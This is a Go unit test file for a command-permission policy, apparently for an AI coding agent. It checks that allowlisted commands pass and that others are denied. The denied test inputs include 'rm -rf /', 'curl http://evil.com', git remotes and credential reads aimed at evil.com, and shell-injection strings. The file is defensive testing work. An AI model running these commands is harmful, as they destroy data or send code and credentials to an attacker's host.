// SPDX-License-Identifier: AGPL-3.0
// Copyright 2025 Kadir Pekel
//
// Licensed under the GNU Affero General Public License v3.0 (AGPL-3.0) (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     https://www.gnu.org/licenses/agpl-3.0.en.html
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package policy

import "testing"

func allowAll() *Policy {
	p := New(".")
	return p
}

func TestCommandAllowlistBasic(t *testing.T) {
	p := allowAll()
	allowed := []string{"ls", "git status", "cargo build --release", "cat file.txt", "grep -r pattern ."}
	for _, c := range allowed {
		if !p.IsCommandAllowed(c) {
			t.Errorf("expected allowed: %q", c)
		}
	}
	denied := []string{"rm -rf /", "sudo apt install", "curl http://evil.com", "python3 exploit.py"}
	for _, c := range denied {
		if p.IsCommandAllowed(c) {
			t.Errorf("expected denied: %q", c)
		}
	}
}

func TestCommandReadOnlyBlocksEverything(t *testing.T) {
	p := allowAll()
	p.Autonomy = AutonomyReadOnly
	if p.IsCommandAllowed("ls") {
		t.Error("readonly must reject all commands")
	}
}

func TestCommandInjectionOperatorsBlocked(t *testing.T) {
	p := allowAll()
	cases := []string{
		"echo `whoami`",
		"echo $(whoami)",
		"echo ${PATH}",
		"ls > /etc/passwd",
		"ls >> /etc/passwd",
	}
	for _, c := range cases {
		if p.IsCommandAllowed(c) {
			t.Errorf("expected denied: %q", c)
		}
	}
}

func TestCommandSeparatorsValidateEverySegment(t *testing.T) {
	p := allowAll()
	if p.IsCommandAllowed("ls && rm -rf /") {
		t.Error("&& chain with a denied segment must be rejected")
	}
	if !p.IsCommandAllowed("ls && git status") {
		t.Error("&& chain with two allowed segments must pass")
	}
	if p.IsCommandAllowed("ls; curl http://evil.com") {
		t.Error("; chain with a denied segment must be rejected")
	}
}

func TestGitSubcommandBlocklist(t *testing.T) {
	p := allowAll()
	denied := []string{
		"git push",
		"git push origin main",
		"git remote add evil https://evil.com/repo.git",
		"git remote set-url origin https://evil.com",
		"git config user.email hacker@evil.com",
		"git submodule add https://evil.com/repo.git",
		"git credential fill",
		"git -c core.pager=malicious log",
	}
	for _, c := range denied {
		if p.IsCommandAllowed(c) {
			t.Errorf("expected denied: %q", c)
		}
	}
	allowed := []string{
		"git status", "git log --oneline -10", "git diff HEAD~1",
		"git remote -v", "git config user.name", "git config --list",
		"git submodule status", "git clone https://github.com/user/repo.git",
	}
	for _, c := range allowed {
		if !p.IsCommandAllowed(c) {
			t.Errorf("expected allowed: %q", c)
		}
	}
}

func TestNpmAndCargoPublishBlocked(t *testing.T) {
	p := allowAll()
	for _, c := range []string{"npm publish", "npm login", "npm token create", "cargo publish", "cargo login"} {
		if p.IsCommandAllowed(c) {
			t.Errorf("expected denied: %q", c)
		}
	}
	for _, c := range []string{"npm install", "npm run build", "cargo build --release", "cargo test"} {
		if !p.IsCommandAllowed(c) {
			t.Errorf("expected allowed: %q", c)
		}
	}
}

func TestFindExecBlocklist(t *testing.T) {
	p := allowAll()
	if !p.IsCommandAllowed(`find . -exec grep TODO {} \;`) {
		t.Error("find -exec with allowlisted command should pass")
	}
	if p.IsCommandAllowed(`find . -exec rm -rf {} \;`) {
		t.Error("find -exec with non-allowlisted command should be denied")
	}
	if p.IsCommandAllowed("find . -delete") {
		t.Error("find -delete should be denied")
	}
}

func TestEmptyCommandRejected(t *testing.T) {
	p := allowAll()
	if p.IsCommandAllowed("") {
		t.Error("empty command must be rejected")
	}
	if p.IsCommandAllowed("   ") {
		t.Error("whitespace-only command must be rejected")
	}
}

func TestEnvAssignmentPrefixSkipped(t *testing.T) {
	p := allowAll()
	if !p.IsCommandAllowed("FOO=bar git status") {
		t.Error("leading env assignment should be skipped before base-command extraction")
	}
}
